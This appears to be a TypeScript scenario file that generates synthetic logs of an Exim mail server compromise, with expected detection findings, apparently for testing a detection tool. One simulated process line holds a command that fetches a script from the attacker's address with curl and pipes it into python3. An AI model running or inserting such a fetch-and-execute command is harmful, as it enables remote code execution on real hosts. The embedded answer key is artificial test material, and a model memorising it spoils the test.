import { INIT, LinuxMachine } from '../acts/linux.ts';
import { Sensor } from '../acts/network.ts';
import type { Item } from '../item.ts';
import { at, type Story } from '../story.ts';

const DEBIAN_EXIM = 104;

/** A mail server: failing SMTP connections from outside, exim crashes, a shell as its user, then SSH to a neighbour. */
export const linuxExim: Story = {
  id: 'linux',
  title: 'Exim on a mail server, exploited from outside',
  truth: {
    findings: [
      { rule: 't1210-linux', host: 'mail01', stages: ['A2', 'B1', 'C1', 'D1'], leastLevel: 'high' },
      { rule: 'Unusual Exim4 Child Process', host: 'mail01' },
    ],
    nothingAbove: 'low',
  },
  tell(folder, random) {
    const mail = new LinuxMachine(folder, 'mail01', '10.12.1.25', random);
    const sensor = new Sensor(`${folder}/zeek/conn.log`, random);
    const peers = ['198.51.100.11', '198.51.100.12', '198.51.100.40', '198.51.100.41'];
    const items: Item[] = [
      { kind: 'raw', at: 0, file: `${folder}/[root]/etc/hostname`, text: 'mail01' },
      { kind: 'raw', at: 0, file: `${folder}/[root]/etc/timezone`, text: 'Etc/UTC' },
      { kind: 'raw', at: 0, file: `${folder}/[root]/etc/passwd`, text: PASSWD },
      { kind: 'raw', at: 0, file: `${folder}/live_response/network/ip_addr_show.txt`, text: addresses(mail.ip) },
      { kind: 'raw', at: 0, file: `${folder}/uac.log`, text: '2026-03-10 18:40:02 +0000 INF collection finished' },
    ];
    const daemon = mail.child(INIT, '/usr/sbin/exim4', { uid: DEBIAN_EXIM });
    const cron = mail.child(INIT, '/usr/sbin/cron');
    const sshd = mail.child(INIT, '/usr/sbin/sshd');
    items.push(
      mail.service(at('-1 06:00:01'), 'SERVICE_START', 'exim4'),
      mail.executed(at('-1 06:00:01.2'), daemon, ['/usr/sbin/exim4', '-bd', '-q30m']),
      mail.executed(at('-1 06:00:01.5'), sshd, ['/usr/sbin/sshd', '-D']),
      mail.executed(at('-1 06:00:01.7'), cron, ['/usr/sbin/cron', '-f']),
    );

    for (const day of ['-1 ', '']) {
      const [from, to] = [at(`${day}06:30:00`), at(`${day}18:00:00`)];
      items.push(
        ...sensor.traffic(70, from, to, () => ({ from: random.pick(peers), to: mail.ip, port: 25 })),
        ...sensor.traffic(20, from, to, () => ({ from: mail.ip, to: '10.12.1.2', port: 53, protocol: 'udp' as const })),
        ...sensor.traffic(20, from, to, () => ({ from: mail.ip, to: random.pick(peers), port: 25 })),
      );
      for (let hour = 7; hour < 18; hour++) {
        const time = at(`${day}${String(hour).padStart(2, '0')}:17:01`);
        const job = mail.child(cron, '/bin/sh');
        items.push(mail.executed(time, job, ['/bin/sh', '-c', 'run-parts /etc/cron.hourly']));
        items.push(mail.syslog(time, 'CRON', job.pid, '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)'));
        const queue = mail.child(daemon, '/usr/sbin/exim4');
        items.push(mail.executed(time + 90e6, queue, ['/usr/sbin/exim4', '-q']));
      }
      const login = at(`${day}09:12:44`);
      const session = mail.child(sshd, '/usr/sbin/sshd');
      const bash = mail.child(session, '/bin/bash', { uid: 1000, auid: 1000 });
      const adminPort = random.between(50_000, 60_000);
      items.push(
        sensor.flow({ at: login - 1e6, from: '10.12.9.5', fromPort: adminPort, to: mail.ip, port: 22, seconds: 600 }),
        mail.syslog(
          login,
          'sshd',
          session.pid,
          `Accepted publickey for ops from 10.12.9.5 port ${adminPort} ssh2: ED25519 SHA256:x`,
        ),
        mail.syslog(
          login + 20_000,
          'sshd',
          session.pid,
          'pam_unix(sshd:session): session opened for user ops(uid=1000) by (uid=0)',
        ),
        mail.executed(login + 200_000, bash, ['-bash']),
      );
    }

    const intruder = '203.0.113.77';
    const hit = at('14:20:03');
    items.push(...sensor.burst(34, 18, { at: hit, from: intruder, to: mail.ip, port: 25 }));
    const worker = mail.child(daemon, '/usr/sbin/exim4');
    const crash = at('14:20:18.2');
    items.push(
      mail.abended(crash, worker, 11),
      mail.syslog(
        crash,
        'kernel',
        undefined,
        `[93618.114210] exim4[${worker.pid}]: segfault at 7f3c00000008 ip 000055d0c0ffee11 sp 00007ffc0ffee0a0 error 4 in exim4[55d0c0fe0000+120000]`,
      ),
      mail.syslog(crash + 400_000, 'systemd', 1, 'exim4.service: Main process exited, code=dumped, status=11/SEGV'),
      mail.syslog(crash + 410_000, 'systemd', 1, "exim4.service: Failed with result 'core-dump'."),
      mail.service(crash + 420_000, 'SERVICE_STOP', 'exim4', 'failed'),
      mail.service(crash + 1.5e6, 'SERVICE_START', 'exim4'),
    );
    const reborn = mail.child(INIT, '/usr/sbin/exim4', { uid: DEBIAN_EXIM });
    const child = mail.child(reborn, '/usr/sbin/exim4');
    const shell = mail.child(child, '/bin/dash', { comm: 'sh' });
    const curl = mail.child(shell, '/usr/bin/curl');
    const python = mail.child(shell, '/usr/bin/python3');
    items.push(
      mail.executed(crash + 1.6e6, reborn, ['/usr/sbin/exim4', '-bd', '-q30m']),
      sensor.flow({
        at: at('14:22:58'),
        from: intruder,
        to: mail.ip,
        port: 25,
        seconds: 31,
        sent: 70_000,
        received: 2100,
      }),
      mail.executed(at('14:23:12'), child, ['/usr/sbin/exim4', '-Mc', '1vZ0Xy-0001Aa-2B']),
      mail.executed(at('14:23:12.6'), shell, ['/bin/sh', '-c', `id; curl -s http://${intruder}/x | python3`]),
      mail.executed(at('14:23:12.9'), curl, ['curl', '-s', `http://${intruder}/x`]),
      mail.executed(at('14:23:13.1'), python, ['python3']),
      mail.connected(at('14:23:13.2'), curl, intruder, 80),
    );
    const sshPort = random.between(40_000, 48_000);
    items.push(
      mail.connected(at('14:27:30'), python, '10.12.1.40', 22),
      sensor.flow({
        at: at('14:27:30'),
        from: mail.ip,
        fromPort: sshPort,
        to: '10.12.1.40',
        port: 22,
        seconds: 95,
        sent: 6000,
        received: 8000,
      }),
    );
    return items;
  },
};

const PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin',
  `Debian-exim:x:${DEBIAN_EXIM}:111::/var/spool/exim4:/usr/sbin/nologin`,
  'ops:x:1000:1000:Operations:/home/ops:/bin/bash',
].join('\n');

const addresses = (ip: string): string =>
  [
    '1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000',
    '    inet 127.0.0.1/8 scope host lo',
    '2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000',
    `    inet ${ip}/24 brd 10.12.1.255 scope global eth0`,
  ].join('\n');
